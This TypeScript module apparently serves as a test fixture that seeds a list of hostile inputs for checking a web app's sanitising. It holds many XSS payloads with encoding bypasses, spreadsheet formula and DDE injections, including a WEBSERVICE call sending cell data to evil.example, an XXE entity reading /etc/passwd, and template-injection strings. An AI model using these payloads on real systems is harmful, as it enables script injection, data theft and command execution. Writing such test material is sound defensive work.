/**
 * Texts that try to be something else: markup, scripts, addresses that run, templates, formulas,
 * fields, entities, characters that turn or hide others. What runs sets `window.__pwned`. Always
 * the same ones, in the same order: every vector in every dress, dealt by a seed.
 */
import { seededRandom } from './seeded-random';

/** What they would all like to do. Single quotes and no spaces, to fit into attributes. */
const RUN = 'window.__pwned=1';

const AS_THEY_ARE = [
	'<script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	"' onmouseover='alert(1)",
	'=HYPERLINK("http://evil.example","x")',
	'+cmd|/C calc!A0',
	'-2+3',
	'@SUM(1,2)',
	'\t=1+1',
	']]></w:t><w:fldSimple w:instr="INCLUDETEXT http://evil.example"/>',
	'&lt;b&gt;&amp;&#60;',
	'{{constructor}} ${1} %s',
	'</title></style><svg onload=alert(1)>',
	'javascript:alert(1)',
	'_x000D__x003C_',
	'\u202e反向\u200b零宽',
	'\ud800 孤立',
	'=WEBSERVICE("http://evil.example/?"&A1)',
	'=1+cmd|"/C calc"!A0',
	'＝1+1',
	'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
	'<?xml-stylesheet href="javascript:alert(1)"?>',
	'<![CDATA[<script>alert(1)</script>]]>',
	'</w:t></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText></w:r><w:r><w:t>',
	'__proto__',
	'constructor'
];

/** Elements that run something by an event of their own, without anybody's doing. */
const ELEMENTS = [
	`<img src=x onerror=${RUN}>`,
	`<svg onload=${RUN}>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
	`<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
	`<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
	`<video src=x onerror=${RUN}></video>`,
	`<audio src=x onerror=${RUN}></audio>`,
	`<video><source onerror=${RUN}></video>`,
	`<object data=x onerror=${RUN}></object>`,
	`<embed src="data:text/html,<script>parent.__pwned=1</script>">`,
	`<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
	`<iframe src="javascript:parent.__pwned=1"></iframe>`,
	`<details open ontoggle=${RUN}>x</details>`,
	`<input autofocus onfocus=${RUN}>`,
	`<select autofocus onfocus=${RUN}></select>`,
	`<textarea autofocus onfocus=${RUN}></textarea>`,
	`<div contenteditable autofocus onfocus=${RUN} tabindex=0>x</div>`,
	`<style>@keyframes x{}</style><b style="animation:x" onanimationstart=${RUN}>x</b>`,
	`<b style="transition:color 1s" ontransitionend=${RUN}>x</b>`,
	`<marquee onstart=${RUN}>x</marquee>`,
	`<body onload=${RUN}>`,
	`<link rel=stylesheet href=x onerror=${RUN}>`,
	`<script src="data:text/javascript,${RUN}"></script>`,
	`<script type=module>${RUN}</script>`,
	`<base href="javascript:/a/-${RUN}//">`,
	`<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
	`<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
	`<a href="javascript:${RUN}">x</a>`,
	`<a href="data:text/html,<script>opener.__pwned=1</script>" target=_blank>x</a>`,
	`<template><script>${RUN}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<p onpointerenter=${RUN} onclick=${RUN} style="position:fixed;inset:0">x</p>`
];

/** What may stand before it: the ends of attributes, elements and comments that it might be in. */
const ENDS = ['">', "'>", '`>', '-->', ']]>', '</textarea>', '</script>', '</style></title>'];

/** Addresses that run, dressed up. */
const ADDRESSES = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	` \u0001javascript:${RUN}`,
	`java\tscript:${RUN}`,
	`java\nscript:${RUN}`,
	`javascript&colon;${RUN}`,
	`&#106;avascript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+`,
	`vbscript:${RUN}`,
	`//evil.example/x.js`,
	`../../../api/books`
];

/** What a template, a formatter or `eval` would take for its own. */
const TEMPLATES = [
	`{{${RUN}}}`,
	`{@html "<img src=x onerror=${RUN}>"}`,
	`\${${RUN}}`,
	`{{constructor.constructor("${RUN}")()}}`,
	`<%= ${RUN} %>`,
	`#{${RUN}}`,
	`[[${RUN}]]`,
	`';${RUN};'`,
	`";${RUN};"`,
	`\\";${RUN};//`,
	`*/${RUN}/*`,
	`%s%n$&$1$\``,
	`{0}{name}{constructor}`,
	`onerror=${RUN}//`
];

/** The same mark-up, written so that only a second reading makes it such. */
const DRESSES: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => text.toUpperCase().replaceAll('WINDOW.__PWNED', 'window.__pwned'),
	(text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(text) => text.replaceAll('<', '&#x3c;').replaceAll('"', '&#34;'),
	(text) => text.replaceAll('<', '\\u003c'),
	(text) => encodeURIComponent(text),
	(text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
	(text) => text.replaceAll(' on', '\u000con').replaceAll(' src', '/src'),
	(text) => `\u202e${text}\u2066`,
	(text) => text.replace('<', '<\u0000').replace('=', '\u200b='),
	(text) => `中文${text}\ufeff`,
	(text) => `<<${text}//`
];

function deal(): readonly string[] {
	const random = seededRandom(20_261_123);
	const dressed = ELEMENTS.flatMap((element) => {
		const [a, b, c] = [random.pick(DRESSES), random.pick(DRESSES), random.pick(DRESSES)];
		const freed = random.pick(ENDS) + element;
		return [element, freed, a(element), b(element), c(freed)];
	});
	const addresses = ADDRESSES.flatMap((text) => [text, random.pick(DRESSES)(text)]);
	const events = ENDS.map((end) => `${end.replace('>', '')} autofocus onfocus=${RUN} x=`);
	return [...new Set([...AS_THEY_ARE, ...TEMPLATES, ...events, ...addresses, ...dressed])];
}

export const HOSTILE_TEXTS = deal();
